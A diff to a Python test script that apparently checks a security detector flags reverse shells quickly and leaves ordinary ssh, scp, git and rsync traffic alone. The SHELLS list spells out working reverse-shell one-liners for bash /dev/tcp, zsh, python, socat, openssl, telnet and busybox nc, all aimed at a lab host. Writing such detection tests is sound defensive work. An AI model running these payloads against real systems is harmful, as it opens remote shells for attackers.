@@ -3,12 +3,11 @@
 """Reverse shells of real tools, each found within a second of the shell answering; what looks like one and is none."""
 import os
 import shutil
-import subprocess
 import sys
 import time
 
 import lab
-from lab import S4, ZONE
+from lab import S4
 
 CASES = lab.golden.Cases()
 LIMIT = 1.0     # seconds, from when the shell answers to when it is told
@@ -26,7 +25,6 @@ SHELLS = [
     ("bash, sh on descriptor 196", "bash", ("bash",), f"0<&196;exec 196<>/dev/tcp/{S4}/PORT; sh <&196 >&196 2>&196"),
     ("bash, read line by line", "bash", ("bash",),
      f"exec 5<>/dev/tcp/{S4}/PORT; cat <&5 | while read l; do /bin/sh -c \"$l\" 2>&5 >&5; done"),
-    ("bash -i at /dev/udp", "bash", ("bash",), None),
     ("zsh ztcp", "zsh", ("zsh",), f"exec zsh -c 'zmodload zsh/net/tcp && ztcp {S4} PORT && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"),
     ("python3 dup2, sh", "/usr/bin/python3", ("python3",), f"exec /usr/bin/python3 -c \"{PYTHON}{DUP}subprocess.call(['/bin/sh','-i'])\""),
     ("python3 pty.spawn", "/usr/bin/python3", ("python3",), f"exec /usr/bin/python3 -c \"{PYTHON}{DUP}pty.spawn('/bin/sh')\""),
@@ -48,7 +46,7 @@ SHELLS = [
     ("socat pty, shell first", "socat", ("socat",), f"exec socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane TCP:{S4}:PORT"),
     ("socat SYSTEM, OpenSSL", "socat", ("socat",), f"exec socat OPENSSL:{S4}:TLSPORT,verify=0 SYSTEM:sh"),
     ("openssl s_client and a fifo", "openssl", ("openssl",), FIFO + f"sh -i < f.PORT 2>&1 | openssl s_client -quiet -connect {S4}:TLSPORT > f.PORT"),
-    ("telnet and a fifo", "telnet", ("telnet",), FIFO + f"sh -i < f.PORT 2>&1 | telnet {S4} PORT > f.PORT"),
+    ("telnet and a fifo", "telnet", ("telnet", "inetutils-telnet"), FIFO + f"sh -i < f.PORT 2>&1 | telnet {S4} PORT > f.PORT"),
     ("busybox nc -e", "busybox", ("busybox",), f"exec busybox nc {S4} PORT -e /bin/sh"),
     ("a program of its own", "gcc", ("implant",), "exec ./implant PORT"),
 ]
@@ -129,35 +127,38 @@ ORDINARY = [
 ]
 
 
-def ssh(n, d):
-    """ssh HOST COMMAND with dropbear, a ProxyCommand of nc, scp: shells on both ends."""
-    key = os.path.join(n.tmp, "id")
-    lab.must("dropbearkey", "-t", "ed25519", "-f", key)
-    pub = [x for x in lab.must("dropbearkey", "-y", "-f", key).splitlines() if x.startswith("ssh-")][0]
-    home = os.path.join(n.tmp, "home")
-    os.makedirs(os.path.join(home, ".ssh"), mode=0o700, exist_ok=True)
-    return key, pub
-
-
 def ordinary(n, d):
     before = d.findings()
-    for name, command in ORDINARY:
+    ssh = n.dropbear()
+    remote = f"root@{S4}"
+    over_ssh = [
+        ("ssh HOST COMMAND", f"{ssh} {remote} 'id; sh -c uname' > /dev/null"),
+        ("ssh HOST with a script as input", f"echo 'id; uname' | {ssh} {remote} sh > /dev/null"),
+        ("ssh through nc", f"{ssh} -o ProxyCommand='nc.traditional %h %p' {remote} id > /dev/null"),
+        ("ssh through socat", f"{ssh} -o ProxyCommand='socat - TCP:%h:%p' {remote} id > /dev/null"),
+        ("ssh through a shell and nc", f"{ssh} -o ProxyCommand='sh -c \"nc.traditional %h %p; true\"' {remote} id > /dev/null"),
+        ("scp", f"scp -O {ssh[4:].replace('-p ', '-P ')} /etc/passwd {remote}:passwd"),
+        ("git over ssh", f"git init -q --bare r.git; GIT_SSH_COMMAND='{ssh}' git ls-remote {remote}:{n.tmp}/r.git"),
+    ]
+    if shutil.which("rsync"):
+        over_ssh.append(("rsync", f"rsync -e '{ssh}' /etc/passwd {remote}:passwd2"))
+    for name, command in ORDINARY + over_ssh:
         tool = "nc.traditional" if "nc.traditional" in command else "bash"
         if not shutil.which(tool):
             CASES.skip(name, f"no {tool} here")
             continue
-        n.run("timeout", "20", "bash", "-c", command, check=False)
+        n.run("timeout", "20", "bash", "-c", command, check=(name, command) in over_ssh)
     time.sleep(1.2)                 # a look at what has just begun
     known = {r["egret"]["finding"]["id"] for r in before}
     for r in d.findings():
         f = r["egret"]["finding"]
         if f["id"] not in known:
             CASES.check(f"ordinary use of shells is not found: {f['explain']}", f["detector"] != "shell", f)
-    CASES.check(f"{len(ORDINARY)} ordinary uses of shells and connections went by", True)
+    CASES.check(f"{len(ORDINARY) + len(over_ssh)} ordinary uses of shells and connections went by", True)
 
 
 def main():
-    lab.need(CASES, "gcc", "socat", "openssl")
+    lab.need(CASES, "gcc", "socat", "openssl", "dropbear", "ssh", "git")
     n = lab.Lab("she")
     try:
         n.nginx()
@@ -173,8 +174,6 @@ def main():
         d = n.daemon()
         ordinary(n, d)
         for i, (name, tool, programs, command) in enumerate(SHELLS):
-            if not command:
-                continue
             if not shutil.which(tool):
                 CASES.skip(name, f"no {tool} here")
                 continue
